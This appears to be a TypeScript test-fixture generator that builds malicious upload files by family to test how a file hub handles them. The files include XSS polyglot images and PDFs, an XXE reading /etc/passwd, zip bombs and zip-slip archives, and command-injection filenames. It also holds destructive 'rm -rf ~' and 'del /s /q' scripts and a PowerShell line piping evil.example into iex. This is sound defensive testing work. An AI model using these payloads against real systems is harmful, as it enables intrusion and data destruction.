/**
 * Hostile files by family, made from a seed: what a stranger would send to have it run, unpacked, opened or saved where it
 * should not be. `must` says what the hub has to do with it; `either` leaves it to the hub, for what is served is harmless.
 */
import { randomBytes } from './attack.ts'
import type { Chance } from '../sim/chance.ts'

export interface HostileFile {
  readonly family: string
  readonly name: string
  readonly bytes: Uint8Array
  readonly must: 'refuse' | 'serve' | 'either'
  /** Headers that lie about it. */
  readonly headers?: Readonly<Record<string, string>>
}

/** Bytes of one file that the hub under attack takes. */
export const fileBytesMax = 1024 * 1024

const latin = (text: string): Buffer => Buffer.from(text, 'latin1')
const utf8 = (text: string): Buffer => Buffer.from(text, 'utf8')
const joined = (...parts: readonly (Uint8Array | string)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? latin(part) : part)))
const uint32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}

const script = '<script>alert(document.domain)</script>'
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'

const pngHead = latin('\x89PNG\r\n\x1a\n')
const pngChunk = (kind: string, body: Uint8Array | string): Buffer =>
  joined(uint32(body.length), kind, joined(body), uint32(0))
const png = (width: number, height: number, ...chunks: readonly Buffer[]): Buffer =>
  joined(
    pngHead,
    pngChunk('IHDR', joined(uint32(width), uint32(height), '\x08\x06\0\0\0')),
    ...chunks,
    pngChunk('IDAT', latin('x\x9c\x63\0\0\0\x02\0\x01')),
    pngChunk('IEND', ''),
  )
const goodPng = png(1, 1)
const jpegSegment = (marker: number, body: Uint8Array): Buffer => {
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(body.length + 2, 2)
  return joined(head, body)
}
const jpeg = (width: number, height: number, ...segments: readonly Buffer[]): Buffer => {
  const frame = Buffer.from([8, height >> 8, height & 255, width >> 8, width & 255, 1, 1, 0x11, 0])
  return joined('\xff\xd8', ...segments, jpegSegment(0xc0, frame), '\xff\xda\0\x02\0\xff\xd9')
}
const gif = (width: number, height: number, rest = '\0\0\0;'): Buffer =>
  joined('GIF89a', Buffer.from([width & 255, width >> 8, height & 255, height >> 8]), rest)

interface ZipEntry {
  readonly name: string
  readonly content?: Uint8Array | string
  /** What the directory claims, bytes unpacked. */
  readonly claims?: number
  readonly flags?: number
  readonly extra?: Uint8Array
}

/** An archive as it stands in the book, or as it does not. */
function zip(entries: readonly ZipEntry[], comment = ''): Buffer {
  const locals: Buffer[] = []
  const directory: Buffer[] = []
  let at = 0
  for (const { name, content = '', claims, flags = 0, extra = Buffer.alloc(0) } of entries) {
    const bytes = joined(content)
    const title = utf8(name)
    const common = Buffer.alloc(26)
    common.writeUInt16LE(20, 0)
    common.writeUInt16LE(flags, 2)
    common.writeUInt32LE(bytes.length, 14)
    common.writeUInt32LE(claims ?? bytes.length, 18)
    common.writeUInt16LE(title.length, 22)
    common.writeUInt16LE(extra.length, 24)
    const tail = Buffer.alloc(14)
    tail.writeUInt32LE(at, 10)
    const local = joined('PK\x03\x04', common, title, extra, bytes)
    directory.push(joined('PK\x01\x02\x14\0', common, tail, title, extra))
    locals.push(local)
    at += local.length
  }
  const listed = Buffer.concat(directory)
  const end = Buffer.alloc(18)
  end.writeUInt16LE(entries.length & 0xffff, 4)
  end.writeUInt16LE(entries.length & 0xffff, 6)
  end.writeUInt32LE(listed.length, 8)
  end.writeUInt32LE(at, 12)
  end.writeUInt16LE(comment.length, 16)
  return joined(...locals, listed, 'PK\x05\x06', end, comment)
}

const office = (part: string, ...more: readonly ZipEntry[]): Buffer =>
  zip([{ name: '[Content_Types].xml', content: '<Types/>' }, { name: part, content: '<x/>' }, ...more])

type Made = readonly [name: string, bytes: Uint8Array, must?: HostileFile['must'], headers?: Record<string, string>]
type Family = (chance: Chance) => readonly Made[]

/** What a page would be, behind each disguise. */
const disguises: readonly ((page: string) => Uint8Array)[] = [
  (page) => utf8(page),
  (page) => utf8(`\ufeff${page}`),
  (page) => utf8(` \r\n\t\f${page}`),
  (page) => utf8(page.toUpperCase()),
  (page) => utf8(`<!-- a comment -->${page}`),
  (page) => utf8(`<?xml version="1.0" encoding="UTF-8"?>${page}`),
  (page) => utf8(`<!DOCTYPE html>${page}`),
  (page) => joined('\xff\xfe', Buffer.from(page, 'utf16le')),
  (page) => joined('\xfe\xff', Buffer.from(page, 'utf16le').swap16()),
  (page) => joined('\0\0', page),
]

/** Names that mean something to a shell, a browser, a file system or a reader's eye. Each goes with an honest picture. */
const names: readonly string[] = [
  'invoice.pdf.exe',
  'photo.png.html',
  'photo\u202egnp.exe',
  '\u2066photo\u2069.png',
  'CON',
  'nul.png',
  'LPT1.png',
  'com7.tar.png',
  `${'a'.repeat(5_000)}.png`,
  `${'窓'.repeat(900)}.png`,
  'a\0b.png',
  'a\r\nSet-Cookie: x=1\r\n\r\n<html>.png',
  'a\u001b[31mred.png',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\a.png',
  '/etc/cron.d/a',
  'C:\\autoexec.bat',
  'a.png::$DATA',
  'a.png:evil.exe',
  '.htaccess',
  'desktop.ini',
  '-rf',
  '~/.ssh/authorized_keys',
  'a".png',
  "a';alert(1)//.png",
  '"><img src=x onerror=alert(1)>.png',
  'a%00.png',
  '%2e%2e%2fa.png',
  'a.png ',
  'a.png...',
  '   ',
  '\u200b\u200d\ufeff',
  'ph\u043eto.png',
  'e\u0301\u0301\u0301\u0301.png',
  'a|b<c>d*e?.png',
  '=cmd|calc!A1.png',
  '\ud83d.png',
  '$(reboot).png',
  '`id`.png',
  'a;b&&c.png',
]

export const families: Readonly<Record<string, Family>> = {
  'pictures that are scripts': (chance) => [
    ['a.gif', joined('GIF89a/*', randomBytes(chance, 20), `*/=1;alert(1)//`), 'either'],
    ['a.gif', joined(gif(1, 1), script), 'serve'],
    ['a.js', gif(0x2a2f, 1, '*/=alert(1);'), 'serve'],
    ['a.html', joined(goodPng, script), 'serve'],
    ['a.jpg', joined(jpeg(1, 1, jpegSegment(0xfe, utf8(`*/alert(1);/*`))), script), 'serve'],
    ['a.webp', joined('RIFF\x2f\x2a\0\0WEBPVP8 *', `/=alert(1)//${'x'.repeat(40)}`), 'either'],
  ],
  'documents that are pages': (chance) => [
    ['a.pdf', utf8(`%PDF-1.4\n${script}`), 'serve'],
    ['a.html', utf8(`%PDF-1.4\n<html>${script}</html>`), 'serve'],
    ['a.pdf', utf8(`${script}\n%PDF-1.4\n`), 'refuse'],
    [
      'a.pdf',
      joined(' '.repeat(chance.between(1, 900)), '%PDF-1.4\n', '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
      'either',
    ],
    ['a.pdf', utf8('%PDF-1.7\n1 0 obj << /S /Launch /F (calc.exe) >>'), 'serve'],
    ['a.pdf', joined('%PDF-1.4\n', zip([{ name: 'a.exe', content: 'MZ' }])), 'serve'],
  ],
  'pages and drawings in disguise': (chance) =>
    disguises.flatMap((disguise, at): Made[] => [
      [`a.${chance.pick(['png', 'txt', 'csv', 'jpg'])}`, disguise(`<html>${script}</html>`), 'refuse'],
      [`a.${chance.pick(['svg', 'xml', 'txt', 'gif'])}`, disguise(svg), 'refuse'],
      // Behind plain words nothing takes it for a page, and it is only ever saved.
      [`a.html`, joined('only text at first, ', 'x'.repeat(at * 60), script), 'serve'],
    ]),
  'markup of other kinds': () => [
    ['a.xml', utf8('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'), 'refuse'],
    ['a.xml', utf8('<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'), 'refuse'],
    ['a.mht', utf8(`MIME-Version: 1.0\nContent-Type: text/html\n\n${script}`), 'either'],
    ['a.txt', utf8('+ADw-script+AD4-alert(1)+ADw-/script+AD4-'), 'either'],
    ['a.svgz', joined('\x1f\x8b\x08\0\0\0\0\0\0\x03', svg), 'refuse'],
    ['a.ps', utf8('%!PS-Adobe-3.0\n(/etc/passwd) (r) file'), 'refuse'],
    ['a.rtf', utf8('{\\rtf1{\\object\\objocx}}'), 'either'],
    ['a.csv', utf8('=cmd|\'/c calc\'!A1,"=HYPERLINK(""http://x"")"\n'), 'either'],
    ['a.url', utf8('[InternetShortcut]\nURL=file:///c:/windows'), 'either'],
  ],
  archives: (chance) => [
    ['bomb.zip', zip([{ name: 'a', content: randomBytes(chance, 30), claims: 0xffffffff }]), 'either'],
    ['bomb.docx', office('word/document.xml', { name: 'word/media/a', claims: 0xfffffffe }), 'either'],
    ['many.zip', zip(Array.from({ length: 9_000 }, (_, at) => ({ name: `${at}` }))), 'either'],
    ['directory.zip', zip(Array.from({ length: 9 }, (_, at) => ({ name: `${at}${'x'.repeat(60_000)}` }))), 'either'],
    ['slip.zip', zip([{ name: '../../../../etc/cron.d/a', content: 'x' }]), 'either'],
    ['slip.zip', zip([{ name: '..\\..\\windows\\a.exe', content: 'MZ' }]), 'either'],
    ['slip.zip', zip([{ name: '/etc/passwd' }, { name: 'C:\\a' }, { name: 'a\0b' }]), 'either'],
    [
      'nested.zip',
      zip([{ name: 'a.zip', content: zip([{ name: 'b.zip', content: zip([{ name: 'c.exe' }]) }]) }]),
      'either',
    ],
    ['encrypted.zip', zip([{ name: 'a.exe', content: 'MZ', flags: 1 }]), 'either'],
    ['long.zip', zip([{ name: 'a' }], 'x'.repeat(65_000)), 'refuse'],
    ['cut.zip', zip([{ name: 'a', content: 'x'.repeat(500) }]).subarray(0, 300), 'refuse'],
    ['end.zip', joined('PK\x03\x04', 'PK\x05\x06', Buffer.alloc(18, 0xff)), 'refuse'],
    ['two-ends.zip', joined(zip([{ name: 'a' }]), zip([{ name: 'b.exe' }])), 'either'],
    ['self.exe', joined('MZ\x90\0', zip([{ name: 'a' }])), 'refuse'],
    ['page.zip', joined(script, zip([{ name: 'a' }])), 'refuse'],
    ['a.jar', zip([{ name: 'META-INF/MANIFEST.MF', content: 'Main-Class: A' }, { name: 'A.class' }]), 'either'],
    ['a.7z', joined('7z\xbc\xaf\x27\x1c\0\x04', randomBytes(chance, 40)), 'refuse'],
    ['a.rar', joined('Rar!\x1a\x07\x01\0', randomBytes(chance, 40)), 'refuse'],
  ],
  'documents with macros': () => [
    ['a.docm', office('word/document.xml', { name: 'word/vbaProject.bin', content: 'x' }), 'refuse'],
    ['a.docx', office('word/document.xml', { name: 'word/VBAPROJECT.BIN', content: 'x' }), 'refuse'],
    ['a.xlsx', office('xl/workbook.xml', { name: 'xl/vbaProject.bin', content: 'x' }), 'refuse'],
    ['a.pptx', office('ppt/presentation.xml', { name: 'ppt/vbaProject.bin', content: 'x' }), 'refuse'],
    ['a.xlsx', office('xl/workbook.xml', { name: 'odd/place/vbaProject.bin' }), 'refuse'],
    ['a.doc', joined('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'Attribut\0e VB_Name'), 'refuse'],
  ],
  'broken and enormous pictures': (chance) => [
    ['wide.png', png(0xffffffff, 0xffffffff), 'refuse'],
    ['wide.png', png(100_000, chance.between(501, 100_000)), 'refuse'],
    ['wide.gif', gif(65_535, 65_535), 'refuse'],
    ['wide.jpg', jpeg(65_535, 65_535), 'refuse'],
    ['wide.jpg', jpeg(65_535, 65_535, jpegSegment(0xe1, Buffer.alloc(60_000, 0xff))), 'refuse'],
    [
      'wide.webp',
      joined('RIFF\0\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0', '\xff\xff\xff\xff\xff\xff', 'x'.repeat(20)),
      'refuse',
    ],
    ['flat.png', png(0, 0), 'either'],
    ['cut.png', goodPng.subarray(0, 20), 'either'],
    ['cut.png', pngHead.subarray(0, 5), 'refuse'],
    ['cut.jpg', jpeg(10, 10).subarray(0, 6), 'either'],
    ['cut.gif', latin('GIF89'), 'either'],
    ['noise.png', joined(pngHead, randomBytes(chance, 400)), 'either'],
    ['noise.jpg', joined('\xff\xd8\xff', randomBytes(chance, 400)), 'either'],
  ],
  'programs and others': (chance) => [
    ['a.png', joined('MZ\x90\0\x03\0', randomBytes(chance, 60)), 'refuse'],
    ['a.pdf', joined('\x7fELF\x02\x01\x01\0', randomBytes(chance, 60)), 'refuse'],
    ['a.txt', utf8('#!/bin/sh\nrm -rf ~\n'), 'refuse'],
    ['a.jpg', joined('\xca\xfe\xba\xbe\0\0\x004', randomBytes(chance, 60)), 'refuse'],
    ['a.txt', joined('\0asm\x01\0\0\0', randomBytes(chance, 60)), 'refuse'],
    ['a.lnk', joined('L\0\0\0\x01\x14\x02\0', randomBytes(chance, 60)), 'refuse'],
    ['a.swf', joined('CWS\x0a\0\0', randomBytes(chance, 60)), 'refuse'],
    ['a.bat', utf8('@echo off\r\ndel /s /q c:\\\r\n'), 'either'],
    ['a.ps1', utf8('Invoke-WebRequest http://evil.example | iex'), 'either'],
    ['a.ico', joined('\0\0\x01\0', randomBytes(chance, 60)), 'refuse'],
    ['a.mp4', joined('\0\0\0\x18ftypmp42', randomBytes(chance, 60)), 'refuse'],
    ['a.txt', joined('a\0b', 'text with a zero in it'), 'refuse'],
    ['a.txt', joined('\x93\xfa\x96\x7b', 'not UTF-8'), 'refuse'],
  ],
  // A name that does not fit into a request line may be refused for that.
  names: () => names.map((name): Made => [name, goodPng, name.length > 500 ? 'either' : 'serve']),
  'metadata with script': () => [
    ['exif.jpg', jpeg(9, 9, jpegSegment(0xe1, utf8(`Exif\0\0${script}`))), 'serve'],
    ['xmp.jpg', jpeg(9, 9, jpegSegment(0xe1, utf8(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${svg}`))), 'serve'],
    ['text.png', png(1, 1, pngChunk('tEXt', `Comment\0${script}`)), 'serve'],
    ['profile.png', png(1, 1, pngChunk('iCCP', `"><script>\0\0`)), 'serve'],
    ['comment.gif', gif(1, 1, `\0\0\0!\xfe\x10${script.slice(0, 16)}\0;`), 'serve'],
  ],
  'types that lie': () => [
    ['a.png', utf8(`<html>${script}`), 'refuse', { 'content-type': 'image/png' }],
    ['a.png', goodPng, 'serve', { 'content-type': 'text/html' }],
    ['a.html', goodPng, 'serve', { 'content-type': 'image/svg+xml' }],
    ['a.png', goodPng, 'serve', { 'content-type': 'text/html; charset=utf-7\t' }],
    [
      'a.txt',
      utf8(`--x\r\nContent-Disposition: form-data; name="f"; filename="a.html"\r\n\r\n${script}\r\n--x--`),
      'either',
      { 'content-type': 'multipart/form-data; boundary=x' },
    ],
    ['a.png', goodPng, 'serve', { 'content-encoding': 'gzip' }],
  ],
  sizes: () => [
    ['empty.png', Buffer.alloc(0), 'refuse'],
    ['one.txt', utf8('a'), 'serve'],
    ['one.bin', Buffer.from([0]), 'refuse'],
    ['limit.txt', Buffer.alloc(fileBytesMax, 0x61), 'serve'],
    ['over.txt', Buffer.alloc(fileBytesMax + 1, 0x61), 'refuse'],
  ],
}

/** All families once. */
export const hostileFiles = (chance: Chance): HostileFile[] =>
  Object.entries(families).flatMap(([family, make]) =>
    make(chance).map(([name, bytes, must = 'either', headers]) => ({
      family,
      name,
      bytes,
      must,
      ...(headers && { headers }),
    })),
  )
